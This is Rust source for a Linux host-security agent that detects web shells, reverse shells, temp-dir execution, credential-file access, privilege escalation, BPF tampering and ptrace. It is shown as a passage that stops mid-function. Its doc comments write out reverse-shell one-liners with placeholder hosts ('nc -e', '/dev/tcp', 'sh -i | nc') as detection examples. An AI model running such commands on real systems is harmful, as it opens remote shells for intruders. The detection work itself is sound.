//! Process behaviour: what processes start, connect to, open and ask of the kernel, judged
//! against their ancestry in the shared process tree.
//!
//! Finding kinds (agent `process`):
//!
//! - `service_spawned_shell` (T1505.003 when the service is a web server or an interpreter
//!   serving connections, else T1059.004; high): a shell, or an interpreter given inline code,
//!   started by a network-facing service within `service_depth` (3) ancestors: a process that
//!   accepted connections, or whose executable is in `services`. The walk stops at a
//!   legitimate shell host (`login_paths`: sshd, login, cron, sudo, tmux, containerd-shim...)
//!   and at an ancestor shell (that shell is the one to report). Confidence 0.85 when the
//!   parent is the service, 0.75 deeper; 0.15 less when the only evidence is an accept() of
//!   unknown family; a shell running a script file (CGI-like) or within
//!   `service_startup_s` (30 s) of the service's start (piped loggers) stays at 0.45/0.4.
//! - `reverse_shell` (T1059.004; high), all within `reverse_shell_window_s` (10 s), ignoring
//!   connects to loopback and to `reverse_shell_ignore_ports` (53):
//!   (a) a process that connected out then executed a shell in the same pid (`nc -e`,
//!   `bash -c 'exec bash -i </dev/tcp/h/p'`, perl `exec`): 0.9 (0.85 for `-c`); a shell
//!   started by a parent that just connected (python `pty.spawn`, `socat exec:`): 0.85 for an
//!   interactive shell, 0.6 for `sh -c` (0.35 under a build or package tool), 0.4 for a
//!   script; (b) a shell that connects out right after its exec: 0.9, 0.8 for `-c`, 0.5 for a
//!   script; (c) an explicit `-i` shell and a sibling that connects out, started side by side
//!   by one parent (`cat f | sh -i | nc h p > f`): 0.8. A shell whose child connects (a
//!   script running `curl`) is none of these. Entities carry the destination and port.
//! - `exec_from_temp` (T1204.002, or T1036.005 when the name imitates a system program;
//!   medium): an executable run from `temp_dirs` (/tmp/, /var/tmp/, /dev/shm/, /run/user/...):
//!   0.6, +0.1 for a hidden path, +0.1 under /dev/shm, +0.1 for an imitated name; a shell or
//!   interpreter running a script from a temp dir: 0.45 (+ the same). Not reported when a
//!   build tool (`build_tools`: cargo, rustdoc, go, make...) ran it, or for a build output
//!   (`/target/debug/`, `/go-build`...) under a build tool: `go run`, doctests, a crate
//!   built in /tmp. Relative paths (`./x`) carry no directory and are not judged.
//! - `rare_parent_child` (T1059 for shells and interpreters, else T1204; low): after
//!   `rare_learn_s` (1 h) of event time, or once a complete baseline is loaded, a (parent
//!   executable, child executable) pair seen fewer than `rare_min_count` (1) times: 0.3,
//!   0.4 when the child is a shell, an interpreter or runs from a temp dir. Cargo's hash
//!   suffixes are dropped from names. The baseline (`rare_max_pairs` = 4096 pairs, least
//!   used evicted) persists through save()/load(); loads merge.
//! - `sensitive_file_access`: openat() of watched files by a process not in
//!   `file_access_allow` (or an allowed name run from outside `system_dirs`). Shadow files:
//!   read 0.65 medium (T1003.008), write 0.8 high (T1098); sudoers: read 0.35 low, write
//!   0.85 high (T1548.003); authorized_keys: write 0.85 high, read 0.3 low (T1098.004); SSH
//!   private and host keys: read 0.6 medium (T1552.004), other writes under the SSH
//!   directories 0.6 medium (T1098.004); account files (/etc/passwd, /etc/group): writes
//!   only, 0.8 high (T1136.001). A write is any of O_WRONLY, O_RDWR, O_CREAT, O_TRUNC,
//!   O_APPEND.
//! - `privilege_escalation` (T1068; high): a set*uid call setting a uid to 0 (-1 means
//!   unchanged) by a process whose real uid is not 0 and whose executable is not an expected
//!   elevation path (`elevation_paths`: sudo, su, pkexec, passwd...): 0.8, 0.9 from a temp dir
//!   or a shell/interpreter. The gid family with gid 0: 0.5 medium.
//! - `kernel_module_load` (T1547.006): init_module/finit_module. 0.6 medium by a module
//!   loader (`module_loaders`); 0.4 low when the kernel itself ran the loader (parent
//!   kthreadd/kworker: automatic module loading); 0.8 high by anything else, 0.9 from a temp
//!   dir.
//! - `sensor_tamper_bpf` (T1562.001; high): bpf() by a process not in `bpf_allow` (systemd*,
//!   runc, crun): 0.7, 0.8 for commands that reach existing objects (get-fd-by-id, detach,
//!   map updates and deletes).
//! - `ptrace` (T1055.008): ptrace attach/seize or memory/register writes by a process that
//!   is not a debugger (`debuggers`: gdb, strace, ltrace, lldb...): 0.3 low on its own
//!   descendant, 0.55 medium on another process, 0.7 medium for writes into another process.
//!
//! Every finding names the pid, parent pid, uid and executable, and its reason sentence
//! includes the ancestry. Findings are held off per process and kind for `cooldown_s`
//! (300 s); a reverse shell is reported again within it only when at least 0.15 more
//! confident (a `sh -c` wrapper first, then the interactive shell it runs). Events are sharded by pid; ancestors are read from the shared context, and
//! what this instance saw of other pids (an ancestor's accepts, a parent's connect
//! destination) is used when it is there: in sharded mode a parent's connect may only be
//! known from the context, without its destination. State is fixed: `max_pids` (16384)
//! per-process entries, `rare_max_pairs` pairs, a cooldown table; `on_event` allocates only
//! to build a finding.

#[doc(hidden)]
pub mod names;
#[doc(hidden)]
pub mod state;

use std::net::{IpAddr, Ipv4Addr};

use names::{NameList, NodeName, PathList, ShellArgs, ShellMode, basename, has_prefix};
use state::{ChildrenState, PairTable, PidState, PidTable};

use super::{
    agent::{Agent, Cooldown, Emitter, ns_secs, secs_ns},
    context::{Context, MAX_ANCESTRY, ProcNode, proc_flag},
    event::{Event, ExecInfo, OpenInfo, Proc, SockInfo, SyscallInfo, SyscallKind, Text, int_key, kind},
    finding::{Entities, Evidence, Finding, Severity},
};

fn strings(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| (*s).to_owned()).collect()
}

/// Config of the process agent (`[agents.process]`).
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct ProcessConfig {
    /// Shell executable names (a trailing `*` matches any suffix). `busybox` counts only
    /// when run as one of the other shells. Default: sh, bash, dash, zsh, ksh, ksh93, mksh,
    /// ash, csh, tcsh, fish, rbash, busybox.
    pub shells: Vec<String>,
    /// Interpreters that count as a shell for `service_spawned_shell` when given inline code
    /// (`-c`, `-e`, `-r`). Default: python*, perl*, ruby*, php*, lua*, node, nodejs, tclsh*,
    /// pwsh.
    pub interpreters: Vec<String>,
    /// Network service executables (besides any process seen accepting connections).
    /// Default: nginx, apache2, httpd, lighttpd, php-fpm*, php-cgi*, java, tomcat*, mysqld,
    /// mariadbd, postgres, postmaster, redis-server, memcached, mongod, vsftpd, proftpd,
    /// pure-ftpd, smbd, named, dnsmasq, exim4, dovecot, caddy, haproxy, squid, uwsgi,
    /// gunicorn*.
    pub services: Vec<String>,
    /// Legitimate shell hosts: the walk from a shell towards a service stops at these, and a
    /// parent among them is not reverse-shell evidence. Default: sshd, sshd-session, dropbear,
    /// login, agetty, systemd, systemd-executor, init, cron, crond, anacron, atd, sudo, su,
    /// doas, runuser, pkexec, tmux*, screen, containerd-shim*, runc, crun, conmon, tini,
    /// dumb-init, xterm, gnome-terminal-server, konsole, kitty, alacritty, emacs.
    pub login_paths: Vec<String>,
    /// Ancestors searched for a service above a new shell. Default 3.
    pub service_depth: usize,
    /// A shell started by a named service within this many seconds of the service's own
    /// start is its startup (piped loggers, init scripts) and stays below 0.5. Default 30.0 s.
    pub service_startup_s: f64,
    /// Temporary directory prefixes. Default: /tmp/, /var/tmp/, /dev/shm/, /run/shm/,
    /// /run/user/, /dev/mqueue/.
    pub temp_dirs: Vec<String>,
    /// Build and package tools whose outputs may run from temporary directories, and whose
    /// `sh -c` children after a download are expected. Default: cargo, rustc, rustdoc, go, make, gmake,
    /// cmake, ninja, meson, bazel*, gcc, cc, g++, c++, clang*, collect2, ld, gradle*, mvn,
    /// npm, npx, yarn, pnpm, pip*, gem, bundle, apt, apt-get, dpkg, rpm, dnf, yum.
    pub build_tools: Vec<String>,
    /// Window between a connect and a shell exec for `reverse_shell`. Default 10.0 s.
    pub reverse_shell_window_s: f64,
    /// Destination ports whose connects are not reverse-shell evidence. Default [53].
    pub reverse_shell_ignore_ports: Vec<u16>,
    /// Whether connects to loopback addresses are reverse-shell evidence. Default false.
    pub reverse_shell_loopback: bool,
    /// Event time spent learning parent/child pairs before rare ones are reported.
    /// Default 3600.0 s.
    pub rare_learn_s: f64,
    /// A pair seen fewer times than this is rare. Default 1 (never seen).
    pub rare_min_count: u32,
    /// Pairs kept (at most 1048576). Default 4096.
    pub rare_max_pairs: usize,
    /// Password hash files. Default: /etc/shadow, /etc/gshadow, /etc/security/opasswd.
    pub shadow_files: Vec<String>,
    /// Sudo policy files. Default: /etc/sudoers, /etc/sudoers.d/.
    pub sudoers_files: Vec<String>,
    /// SSH authorised key files (entries without `/` match a final path component).
    /// Default: authorized_keys, authorized_keys2.
    pub authorized_keys_files: Vec<String>,
    /// Directories of SSH keys. Default: /root/.ssh/, /etc/ssh/ssh_host_.
    pub ssh_key_dirs: Vec<String>,
    /// Account files, judged on writes only. Default: /etc/passwd, /etc/group.
    pub account_files: Vec<String>,
    /// Programs allowed to open the watched files. Default: sshd, sshd-session, login, passwd,
    /// chpasswd, chage, chfn, chsh, gpasswd, newgrp, useradd, usermod, userdel, groupadd,
    /// groupmod, groupdel, adduser, deluser, addgroup, delgroup, vipw, vigr, pwck, grpck,
    /// pwconv, grpconv, unix_chkpwd, sudo, visudo, su, runuser, pkexec, polkitd, cron, crond,
    /// atd, systemd*, nscd, sssd*, login, gdm*, lightdm, accounts-daemon, ssh, scp, sftp,
    /// ssh-add, ssh-agent, ssh-keygen, ssh-keyscan, ssh-keysign, sftp-server, update-passwd,
    /// vsftpd, dovecot, cockpit-session.
    pub file_access_allow: Vec<String>,
    /// Programs expected to switch to uid 0. Default: sudo, su, pkexec, doas, newgrp, sg,
    /// login, sshd, sshd-session, cron, crond, atd, at, crontab, passwd, chsh, chfn, gpasswd,
    /// mount, umount, fusermount*, unix_chkpwd, polkit-agent-helper-1, ssh-keysign, Xorg*,
    /// dbus-daemon-launch-helper, newuidmap, newgidmap, runuser, systemd*, snap-confine,
    /// exim4, sendmail, chrome-sandbox.
    pub elevation_paths: Vec<String>,
    /// Kernel module loaders. Default: modprobe, insmod, kmod, systemd-udevd,
    /// systemd-modules-load, depmod.
    pub module_loaders: Vec<String>,
    /// Programs allowed to call bpf(). Default: systemd*, runc, crun.
    pub bpf_allow: Vec<String>,
    /// Debuggers allowed to ptrace. Default: gdb, gdbserver, strace, ltrace, lldb,
    /// lldb-server, rr.
    pub debuggers: Vec<String>,
    /// Directories an allowed program must run from for its name to be trusted. Default:
    /// /usr/, /bin/, /sbin/, /lib/, /lib64/, /opt/, /snap/.
    pub system_dirs: Vec<String>,
    /// Processes this instance keeps state for (at most 4194304). Default 16384.
    pub max_pids: usize,
    /// Hold-off between findings about the same process and kind. Default 300.0 s.
    pub cooldown_s: f64,
}

impl Default for ProcessConfig {
    fn default() -> Self {
        Self {
            shells: strings(&[
                "sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "ash", "csh", "tcsh", "fish", "rbash", "busybox",
            ]),
            interpreters: strings(&["python*", "perl*", "ruby*", "php*", "lua*", "node", "nodejs", "tclsh*", "pwsh"]),
            services: strings(&[
                "nginx",
                "apache2",
                "httpd",
                "lighttpd",
                "php-fpm*",
                "php-cgi*",
                "java",
                "tomcat*",
                "mysqld",
                "mariadbd",
                "postgres",
                "postmaster",
                "redis-server",
                "memcached",
                "mongod",
                "vsftpd",
                "proftpd",
                "pure-ftpd",
                "smbd",
                "named",
                "dnsmasq",
                "exim4",
                "dovecot",
                "caddy",
                "haproxy",
                "squid",
                "uwsgi",
                "gunicorn*",
            ]),
            login_paths: strings(&[
                "sshd",
                "sshd-session",
                "dropbear",
                "login",
                "agetty",
                "systemd",
                "systemd-executor",
                "init",
                "cron",
                "crond",
                "anacron",
                "atd",
                "sudo",
                "su",
                "doas",
                "runuser",
                "pkexec",
                "tmux*",
                "screen",
                "containerd-shim*",
                "runc",
                "crun",
                "conmon",
                "tini",
                "dumb-init",
                "xterm",
                "gnome-terminal-server",
                "konsole",
                "kitty",
                "alacritty",
                "emacs",
            ]),
            service_depth: 3,
            service_startup_s: 30.0,
            temp_dirs: strings(&["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/run/user/", "/dev/mqueue/"]),
            build_tools: strings(&[
                "cargo", "rustc", "rustdoc", "go", "make", "gmake", "cmake", "ninja", "meson", "bazel*", "gcc", "cc",
                "g++", "c++", "clang*", "collect2", "ld", "gradle*", "mvn", "npm", "npx", "yarn", "pnpm", "pip*",
                "gem", "bundle", "apt", "apt-get", "dpkg", "rpm", "dnf", "yum",
            ]),
            reverse_shell_window_s: 10.0,
            reverse_shell_ignore_ports: vec![53],
            reverse_shell_loopback: false,
            rare_learn_s: 3600.0,
            rare_min_count: 1,
            rare_max_pairs: 4096,
            shadow_files: strings(&["/etc/shadow", "/etc/gshadow", "/etc/security/opasswd"]),
            sudoers_files: strings(&["/etc/sudoers", "/etc/sudoers.d/"]),
            authorized_keys_files: strings(&["authorized_keys", "authorized_keys2"]),
            ssh_key_dirs: strings(&["/root/.ssh/", "/etc/ssh/ssh_host_"]),
            account_files: strings(&["/etc/passwd", "/etc/group"]),
            file_access_allow: strings(&[
                "sshd",
                "sshd-session",
                "login",
                "passwd",
                "chpasswd",
                "chage",
                "chfn",
                "chsh",
                "gpasswd",
                "newgrp",
                "useradd",
                "usermod",
                "userdel",
                "groupadd",
                "groupmod",
                "groupdel",
                "adduser",
                "deluser",
                "addgroup",
                "delgroup",
                "vipw",
                "vigr",
                "pwck",
                "grpck",
                "pwconv",
                "grpconv",
                "unix_chkpwd",
                "sudo",
                "visudo",
                "su",
                "runuser",
                "pkexec",
                "polkitd",
                "cron",
                "crond",
                "atd",
                "systemd*",
                "nscd",
                "sssd*",
                "gdm*",
                "lightdm",
                "accounts-daemon",
                "ssh",
                "scp",
                "sftp",
                "ssh-add",
                "ssh-agent",
                "ssh-keygen",
                "ssh-keyscan",
                "ssh-keysign",
                "sftp-server",
                "update-passwd",
                "vsftpd",
                "dovecot",
                "cockpit-session",
            ]),
            elevation_paths: strings(&[
                "sudo",
                "su",
                "pkexec",
                "doas",
                "newgrp",
                "sg",
                "login",
                "sshd",
                "sshd-session",
                "cron",
                "crond",
                "atd",
                "at",
                "crontab",
                "passwd",
                "chsh",
                "chfn",
                "gpasswd",
                "mount",
                "umount",
                "fusermount*",
                "unix_chkpwd",
                "polkit-agent-helper-1",
                "ssh-keysign",
                "Xorg*",
                "dbus-daemon-launch-helper",
                "newuidmap",
                "newgidmap",
                "runuser",
                "systemd*",
                "snap-confine",
                "exim4",
                "sendmail",
                "chrome-sandbox",
            ]),
            module_loaders: strings(&["modprobe", "insmod", "kmod", "systemd-udevd", "systemd-modules-load", "depmod"]),
            bpf_allow: strings(&["systemd*", "runc", "crun"]),
            debuggers: strings(&["gdb", "gdbserver", "strace", "ltrace", "lldb", "lldb-server", "rr"]),
            system_dirs: strings(&["/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/", "/opt/", "/snap/"]),
            max_pids: 16_384,
            cooldown_s: 300.0,
        }
    }
}

/// Names that, run from a temporary directory, imitate a system program (besides the
/// configured shells, services, login paths and elevation paths).
const SYSTEM_LOOKALIKES: &[&str] = &["kworker*", "kthreadd", "ksoftirqd*", "init", "dbus-daemon", "rsyslogd", "udevd"];

/// Web servers and application servers: a shell under them is a web shell (T1505.003).
const WEB_SERVICES: &[&str] =
    &["nginx", "apache2", "httpd", "lighttpd", "php*", "java", "tomcat*", "caddy", "uwsgi", "gunicorn*", "node"];

/// Path fragments of build outputs.
const BUILD_MARKERS: &[&[u8]] =
    &[b"/target/debug/", b"/target/release/", b"/go-build", b"/build/", b"/cmake", b"/pip-", b"/node_modules/"];

/// open(2) flags that mean a write.
const O_WRITE: i32 = 0o1 | 0o2 | 0o100 | 0o1000 | 0o2000;

/// What an exec'd image is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Image {
    /// A shell, with its arguments.
    Shell(ShellArgs),
    /// An interpreter; `true` when given inline code.
    Interpreter(bool),
    /// A script whose `#!` interpreter is a shell or an interpreter.
    Script,
    /// Anything else.
    Other,
}

impl Image {
    fn shell_like(self) -> bool {
        !matches!(self, Self::Other)
    }
}

/// How an ancestor is a service.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum ServiceWhy {
    /// Accepted a connection from an IP address.
    AcceptedIp,
    /// Its executable is a listed service.
    Named,
    /// Accepted a connection of unknown family.
    Accepted,
}

/// Which reverse-shell shape.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Shape {
    /// The process connected, then executed a shell.
    SamePid,
    /// The parent connected (destination known), then the child executed a shell.
    Parent,
    /// The parent connected (from the context, destination unknown).
    ParentContext,
}

/// Watched file categories.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum FileKind {
    AuthorizedKeys,
    Shadow,
    Sudoers,
    SshKeys,
    Account,
}

/// Cooldown key kinds.
mod ck {
    pub const SERVICE: u64 = 1;
    pub const TEMP: u64 = 3;
    pub const RARE: u64 = 4;
    pub const FILE: u64 = 5;
    pub const PRIV: u64 = 6;
    pub const MODULE: u64 = 7;
    pub const BPF: u64 = 8;
    pub const PTRACE: u64 = 9;
}

/// The config's lists, compiled once.
#[derive(Debug)]
struct Lists {
    shells: NameList,
    interpreters: NameList,
    services: NameList,
    login: NameList,
    build: NameList,
    temp: PathList,
    shadow: PathList,
    sudoers: PathList,
    authorized_keys: PathList,
    ssh_keys: PathList,
    account: PathList,
    file_allow: NameList,
    elevation: NameList,
    loaders: NameList,
    bpf_allow: NameList,
    debuggers: NameList,
    system_dirs: PathList,
    lookalikes: NameList,
    web: NameList,
}

impl Lists {
    fn new(c: &ProcessConfig) -> Self {
        Self {
            shells: NameList::new(&c.shells),
            interpreters: NameList::new(&c.interpreters),
            services: NameList::new(&c.services),
            login: NameList::new(&c.login_paths),
            build: NameList::new(&c.build_tools),
            temp: PathList::new(&only_absolute(&c.temp_dirs)),
            shadow: PathList::new(&c.shadow_files),
            sudoers: PathList::new(&c.sudoers_files),
            authorized_keys: PathList::new(&c.authorized_keys_files),
            ssh_keys: PathList::new(&c.ssh_key_dirs),
            account: PathList::new(&c.account_files),
            file_allow: NameList::new(&c.file_access_allow),
            elevation: NameList::new(&c.elevation_paths),
            loaders: NameList::new(&c.module_loaders),
            bpf_allow: NameList::new(&c.bpf_allow),
            debuggers: NameList::new(&c.debuggers),
            system_dirs: PathList::new(&only_absolute(&c.system_dirs)),
            lookalikes: NameList::new(&strings(SYSTEM_LOOKALIKES)),
            web: NameList::new(&strings(WEB_SERVICES)),
        }
    }
}

fn only_absolute(v: &[String]) -> Vec<String> {
    v.iter().filter(|p| p.starts_with('/')).cloned().collect()
}

/// Counters of the agent.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ProcessStats {
    /// Per-process entries evicted to make room.
    pub pid_evictions: u64,
    /// Parent entries evicted to make room.
    pub children_evictions: u64,
    /// Parent/child pairs evicted from the baseline.
    pub pair_evictions: u64,
    /// Pairs in the baseline.
    pub pairs: usize,
}

/// The process-behaviour agent.
#[derive(Debug)]
pub struct ProcessAgent {
    cfg: ProcessConfig,
    lists: Lists,
    window_ns: u64,
    startup_ns: u64,
    hold_ns: u64,
    pids: PidTable<PidState>,
    children: PidTable<ChildrenState>,
    pairs: PairTable,
    learn_ns: u64,
    learned_ns: u64,
    learn_last_ns: u64,
    learn_complete: bool,
    cooldown: Cooldown,
}

/// Largest `max_pids` honoured.
const MAX_PIDS_CAP: usize = 1 << 22;
/// Largest `rare_max_pairs` honoured.
const MAX_PAIRS_CAP: usize = 1 << 20;

/// Largest step of event time credited to learning (a jump in a bad capture counts this
/// much, not years).
const LEARN_STEP_MAX_NS: u64 = 600_000_000_000;

/// Fills `out` with up to `levels` ancestors of `pid`, parent first (the context's
/// ancestry, stopping early); returns how many.
fn ancestors(cx: &Context, pid: u32, levels: usize, out: &mut [ProcNode; MAX_ANCESTRY]) -> usize {
    let mut n = 0;
    let Some(mut node) = cx.process(pid) else { return 0 };
    while n < levels.min(MAX_ANCESTRY) {
        let parent = node.ppid;
        if parent == 0 || parent == node.pid {
            break;
        }
        let Some(p) = cx.process(parent) else { break };
        out[n] = p;
        n += 1;
        node = p;
    }
    n
}

fn near(a: u64, b: u64, window_ns: u64) -> bool {
    a.abs_diff(b) <= window_ns
}

fn gap_s(later: u64, earlier: u64) -> f64 {
    ns_secs(later.saturating_sub(earlier))
}

fn uid_text(uid: u32) -> String {
    uid.to_string()
}

/// "name (pid N)" for an ancestor.
fn node_text(n: &ProcNode) -> String {
    format!("{} (pid {})", names::text(NodeName::of(n).name, 48), n.pid)
}

/// "a (pid 1) <- b (pid 2)" for the first `k` ancestors.
fn chain_text(anc: &[ProcNode]) -> String {
    let mut s = String::new();
    for (i, n) in anc.iter().enumerate() {
        if i > 0 {
            s.push_str(" <- ");
        }
        s.push_str(&node_text(n));
    }
    if s.is_empty() {
        s.push_str("unknown");
    }
    s
}

fn entities(p: &Proc, exe: &[u8]) -> Entities {
    Entities {
        pid: Some(p.pid),
        ppid: (p.ppid != 0).then_some(p.ppid),
        user: Some(uid_text(p.uid)),
        exe: (!exe.is_empty()).then(|| names::text(exe, 256)),
        ..Entities::default()
    }
}

fn evidence(measure: &'static str, observed: f64, threshold: f64, window_s: f64, count: u64) -> Evidence {
    Evidence { flow_ids: Vec::new(), observed, threshold, measure, window_s, count }
}

fn is_loopback(ip: &IpAddr) -> bool {
    match ip {
        IpAddr::V4(v) => v.is_loopback(),
        IpAddr::V6(v) => v.is_loopback() || v.to_ipv4_mapped().is_some_and(|m: Ipv4Addr| m.is_loopback()),
    }
}

fn bpf_cmd_name(cmd: u64) -> &'static str {
    const NAMES: [&str; 37] = [
        "MAP_CREATE",
        "MAP_LOOKUP_ELEM",
        "MAP_UPDATE_ELEM",
        "MAP_DELETE_ELEM",
        "MAP_GET_NEXT_KEY",
        "PROG_LOAD",
        "OBJ_PIN",
        "OBJ_GET",
        "PROG_ATTACH",
        "PROG_DETACH",
        "PROG_TEST_RUN",
        "PROG_GET_NEXT_ID",
        "MAP_GET_NEXT_ID",
        "PROG_GET_FD_BY_ID",
        "MAP_GET_FD_BY_ID",
        "OBJ_GET_INFO_BY_FD",
        "PROG_QUERY",
        "RAW_TRACEPOINT_OPEN",
        "BTF_LOAD",
        "BTF_GET_FD_BY_ID",
        "TASK_FD_QUERY",
        "MAP_LOOKUP_AND_DELETE_ELEM",
        "MAP_FREEZE",
        "BTF_GET_NEXT_ID",
        "MAP_LOOKUP_BATCH",
        "MAP_LOOKUP_AND_DELETE_BATCH",
        "MAP_UPDATE_BATCH",
        "MAP_DELETE_BATCH",
        "LINK_CREATE",
        "LINK_UPDATE",
        "LINK_GET_FD_BY_ID",
        "LINK_GET_NEXT_ID",
        "ENABLE_STATS",
        "ITER_CREATE",
        "LINK_DETACH",
        "PROG_BIND_MAP",
        "TOKEN_CREATE",
    ];
    usize::try_from(cmd).ok().and_then(|i| NAMES.get(i)).copied().unwrap_or("unknown")
}

/// bpf() commands that reach objects that already exist (another program's maps, programs
/// and links).
fn bpf_touches_existing(cmd: u64) -> bool {
    matches!(cmd, 2 | 3 | 9 | 13 | 14 | 19 | 21 | 25 | 26 | 27 | 29 | 30 | 34)
}

impl ProcessAgent {
    /// Counters.
    pub fn stats(&self) -> ProcessStats {
        ProcessStats {
            pid_evictions: self.pids.evicted,
            children_evictions: self.children.evicted,
            pair_evictions: self.pairs.evicted,
            pairs: self.pairs.len(),
        }
    }

    /// Entries held per process (at most `max_pids`, rounded up to a whole set).
    pub fn tracked_pids(&self) -> usize {
        self.pids.len()
    }

    /// Whether rare pairs are being reported (learning is over).
    pub fn learning_complete(&self) -> bool {
        self.learn_complete
    }

    /// Whether a reverse-shell finding of confidence `conf` about the connection made by
    /// `connector` may be emitted: once per hold-off, unless at least 0.15 more confident than
    /// the last one (a `sh -c` wrapper first, then the interactive shell it runs).
    fn allow_reverse(&mut self, connector: u32, conf: f32, ts: u64) -> bool {
        let s = self.pids.entry(connector, ts);
        if s.reported_ns != 0 && near(ts, s.reported_ns, self.hold_ns) && conf < s.reported_conf + 0.15 {
            return false;
        }
        s.reported_ns = ts.max(1);
        s.reported_conf = conf;
        true
    }

    fn allow(&mut self, kind_key: u64, id: u64, ts: u64) -> bool {
        self.cooldown.allow(int_key(id.wrapping_mul(16).wrapping_add(kind_key)), ts)
    }

    fn classify(&self, file: &[u8], argv: &[u8]) -> Image {
        let name = basename(file);
        if self.lists.shells.has(name) {
            if has_prefix(name, b"busybox") {
                let applet = names::arg(argv, 1).map(basename).unwrap_or_default();
                if !applet.is_empty() && !has_prefix(applet, b"busybox") && self.lists.shells.has(applet) {
                    return Image::Shell(names::shell_args(argv, 2));
                }
                return Image::Other;
            }
            return Image::Shell(names::shell_args(argv, 1));
        }
        if self.lists.interpreters.has(name) {
            return Image::Interpreter(names::inline_code(argv));
        }
        // A script: the kernel puts its `#!` interpreter first and the script's path at
        // index 1 or 2.
        let argv0 = names::arg(argv, 0).map(basename).unwrap_or_default();
        if !argv0.is_empty()
            && (self.lists.shells.has(argv0) || self.lists.interpreters.has(argv0) || argv0 == b"env")
            && names::args(argv).skip(1).take(2).any(|a| a == file)
        {
            return Image::Script;
        }
        Image::Other
    }

    fn node_name<'a>(node: Option<&'a ProcNode>, p: &'a Proc) -> NodeName<'a> {
        match node {
            Some(n) => NodeName::of(n),
            None => {
                let c = names::comm(&p.comm);
                NodeName { name: c, cut: c.len() >= 15 }
            }
        }
    }

    /// Whether `node`'s executable is in a system directory (unknown executables are given
    /// the benefit of the doubt: nothing can be said).
    fn trusted(&self, node: Option<&ProcNode>) -> bool {
        match node.map(ProcNode::exe) {
            Some(e) if !e.is_empty() => self.lists.system_dirs.contains(e),
            _ => true,
        }
    }

    fn in_temp(&self, path: &[u8]) -> bool {
        self.lists.temp.contains(path)
    }

    // ---- exec ------------------------------------------------------------------------

    fn on_exec(&mut self, e: &ExecInfo, cx: &Context, out: &mut Emitter<'_>) {
        let ts = e.ts_ns;
        let pid = e.proc.pid;
        let file = e.filename.as_bytes();
        let image = self.classify(file, e.argv.as_bytes());
        let prev = self.pids.get(pid).copied();
        match image {
            Image::Shell(a) => {
                let s = self.pids.entry(pid, ts);
                s.shell_ns = ts.max(1);
                s.shell_mode = Some(a.mode);
                s.accepted = false;
                s.accepted_ip = false;
            }
            _ if prev.is_some() => {
                let s = self.pids.entry(pid, ts);
                s.shell_ns = 0;
                s.shell_mode = None;
                s.accepted = false;
                s.accepted_ip = false;
            }
            _ => {}
        }
        let parent = if e.proc.ppid != 0 && e.proc.ppid != pid { cx.process(e.proc.ppid) } else { None };
        if let Image::Shell(a) = image {
            self.reverse_shell_at_exec(e, a, prev.as_ref(), parent.as_ref(), cx, out);
        }
        if image.shell_like() {
            self.service_shell(e, image, cx, out);
        }
        self.exec_from_temp(e, image, parent.as_ref(), cx, out);
        self.rare_pair(e, image, parent.as_ref(), out);
    }

    fn reverse_shell_at_exec(
        &mut self,
        e: &ExecInfo,
        a: ShellArgs,
        prev: Option<&PidState>,
        parent: Option<&ProcNode>,
        cx: &Context,
        out: &mut Emitter<'_>,
    ) {
        let ts = e.ts_ns;
        let w = self.window_ns;
        let pid = e.proc.pid;
        // (a) the same process connected, then became a shell.
        if let Some(p) = prev.filter(|p| p.connect_ns != 0 && near(ts, p.connect_ns, w)) {
            let conf = match a.mode {
                ShellMode::Command => 0.85,
                ShellMode::Script => 0.7,
                ShellMode::Interactive | ShellMode::Unknown => 0.9,
            };
            let dst = p.connect_addr;
            let gap = gap_s(ts, p.connect_ns);
            self.emit_reverse(e, Shape::SamePid, conf, pid, dst, p.connect_port, gap, cx, out);
            return;
        }
        // (a) the parent connected, then started this shell.
        let ppid = e.proc.ppid;
        if let Some(par) = parent.filter(|n| !self.lists.login.matches(NodeName::of(n))) {
            let ctx_connect = if par.flags & proc_flag::CONNECTED != 0 { par.connect_ns } else { 0 };
            let own = self.pids.get(ppid).copied().filter(|o| o.any_connect_ns != 0 && o.any_connect_ns >= ctx_connect);
            let build = self.lists.build.matches(NodeName::of(par));
            let hit = match own {
                Some(o) => (o.connect_ns != 0 && near(ts, o.connect_ns, w)).then_some((
                    Shape::Parent,
                    o.connect_ns,
                    o.connect_addr,
                    o.connect_port,
                )),
                None => (ctx_connect != 0 && near(ts, ctx_connect, w)).then_some((
                    Shape::ParentContext,
                    ctx_connect,
                    None,
                    0,
                )),
            };
            if let Some((shape, at, dst, port)) = hit {
                let known = shape == Shape::Parent;
                let conf: f32 = match a.mode {
                    ShellMode::Interactive | ShellMode::Unknown => {
                        if known {
                            0.85
                        } else {
                            0.75
                        }
                    }
                    ShellMode::Command if build => 0.35,
                    ShellMode::Command => {
                        if known {
                            0.6
                        } else {
                            0.45
                        }
                    }
                    ShellMode::Script => 0.4,
                };
                self.emit_reverse(e, shape, conf, ppid, dst, port, gap_s(ts, at), cx, out);
                return;
            }
        }
        // (c) an explicit -i shell next to a sibling that connected.
        if a.explicit_i && a.mode == ShellMode::Interactive && ppid != 0 {
            let c = self.children.entry(ppid, ts);
            c.shell_ns = ts.max(1);
            c.shell_pid = pid;
            let c = *c;
            if c.connect_ns != 0 && c.connect_pid != pid && near(ts, c.connect_ns, w) {
                let gap = ns_secs(ts.abs_diff(c.connect_ns));
                self.emit_sibling(e.ts_ns, &e.proc, pid, e.filename.as_bytes(), e.argv.as_bytes(), &c, gap, out);
            }
        }
    }

    #[allow(clippy::too_many_arguments, reason = "one finding, every detail named")]
    fn emit_reverse(
        &mut self,
        e: &ExecInfo,
        shape: Shape,
        conf: f32,
        connector: u32,
        dst: Option<IpAddr>,
        port: u16,
        gap: f64,
        cx: &Context,
        out: &mut Emitter<'_>,
    ) {
        if !self.allow_reverse(connector, conf, e.ts_ns) {
            return;
        }
        let shell = names::argv_text(e.argv.as_bytes(), 80);
        let mut anc = [ProcNode::default(); MAX_ANCESTRY];
        let n = ancestors(cx, e.proc.pid, 3, &mut anc);
